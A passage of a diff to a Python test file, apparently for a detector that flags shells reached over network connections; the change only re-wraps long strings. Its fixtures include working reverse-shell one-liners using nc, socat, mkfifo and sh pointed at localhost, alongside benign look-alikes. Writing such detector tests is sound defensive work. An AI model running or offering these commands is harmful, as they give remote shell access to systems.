@@ -136,7 +136,8 @@ _OVER_STREAMS = {
     "script": "mkfifo a; bash a 2>&1 | nc 127.0.0.1 {port} >a &",
     "socat": "socat tcp:127.0.0.1:{port} exec:/bin/sh,pipes &",
     "socat and a fifo": "mkfifo a; sh <a 2>&1 | socat - tcp:127.0.0.1:{port} >a &",
-    "pipes alone": "nc -l -s 127.0.0.1 -p {free} 0<&- | sh 2>&1 | nc 127.0.0.1 {port} & sleep 0.3; nc 127.0.0.1 {free} &",
+    "pipes alone": "nc -l -s 127.0.0.1 -p {free} 0<&- | sh 2>&1 | nc 127.0.0.1 {port} &"
+    " sleep 0.3; nc 127.0.0.1 {free} &",
 }
 
 
@@ -148,7 +149,8 @@ def test_a_shell_that_a_connection_reaches_over_streams(script: str, bench: Benc
 
 
 _ORDINARY_STREAMS = {
-    "a fifo that a script writes": "mkfifo f; sh <f & (echo sleep 1000; sleep 1000) >f & nc 127.0.0.1 {port} </dev/null &",
+    "a fifo that a script writes": "mkfifo f; sh <f & (echo sleep 1000; sleep 1000) >f &"
+    " nc 127.0.0.1 {port} </dev/null &",
     "a logger": "mkfifo f; nc 127.0.0.1 {port} <f & sh -c 'sleep 1000; true' >f &",
     "a pipe to a logger": "sh -c 'sleep 1000; true' | nc 127.0.0.1 {port} &",
     "automation": """/usr/bin/python3 -c '
